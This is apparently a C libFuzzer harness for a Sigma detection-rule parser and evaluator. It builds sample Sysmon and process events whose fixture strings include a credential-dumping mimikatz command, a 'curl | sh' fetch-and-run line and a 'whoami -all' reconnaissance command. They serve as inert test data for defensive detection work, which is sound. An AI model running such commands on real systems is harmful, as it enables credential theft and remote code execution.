/*
 * fuzz_sigma.c - libFuzzer target for the Sigma loader and evaluator.
 *
 * The input is a Sigma rule (YAML). When it compiles (with one configured
 * placeholder, so expand is exercised too), it is evaluated on a fixed
 * Sysmon process-creation event in evtx_dump layout and on a Vigil process
 * event, then freed.
 */
#include <stddef.h>
#include <stdint.h>

#include "vigil/sigma.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

static void eval(const struct vg_sigma_rule *r, const char *const *kv,
                 struct vg_pattern_scratch *scr)
{
	struct vg_event ev;
	if (vg_event_init(&ev) != VG_OK)
		return;
	ev.log = ev.full_log = "{\"Event\":{}} mimikatz sekurlsa::logonpasswords";
	for (size_t i = 0; kv[i]; i += 2)
		vg_event_set(&ev, kv[i], kv[i + 1]);
	struct vg_sigma_view v;
	vg_sigma_view_init(&v, &ev);
	(void)vg_sigma_rule_match(r, &v, scr);
	vg_event_destroy(&ev);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static const char *const vals[] = { "admin*", "root" };
	static const struct vg_sigma_placeholder ph = { "Administrators", vals, 2 };
	static const struct vg_sigma_opts opts = { &ph, 1 };
	static const char *const sysmon[] = { "Event.System.EventID",
		                              "1",
		                              "Event.System.Channel",
		                              "Microsoft-Windows-Sysmon/Operational",
		                              "Event.System.Provider.#attributes.Name",
		                              "Microsoft-Windows-Sysmon",
		                              "Event.EventData.Image",
		                              "C:\\Windows\\System32\\cmd.exe",
		                              "Event.EventData.CommandLine",
		                              "cmd.exe /c whoami -all",
		                              "Event.EventData.ParentImage",
		                              "C:\\Windows\\explorer.exe",
		                              "Event.EventData.DestinationIp",
		                              "10.1.2.3",
		                              "Event.EventData.ProcessId",
		                              "4242",
		                              NULL };
	static const char *const vigil[] = { "vigil.module",
		                             "procmon",
		                             "vigil.event",
		                             "process_creation",
		                             "process.image",
		                             "/usr/bin/curl",
		                             "process.command_line",
		                             "curl -s http://x | sh",
		                             NULL };
	struct vg_diag diag;
	vg_diag_init(&diag);
	struct vg_sigma_rule *r = NULL;
	if (vg_sigma_rule_parse((const char *)data, size, "fuzz.yml", &opts, &r, &diag) == VG_OK) {
		struct vg_pattern_scratch *scr = vg_pattern_scratch_create();
		if (scr) {
			eval(r, sysmon, scr);
			eval(r, vigil, scr);
		}
		vg_pattern_scratch_destroy(scr);
	}
	vg_sigma_rule_destroy(r);
	vg_diag_free(&diag);
	return 0;
}
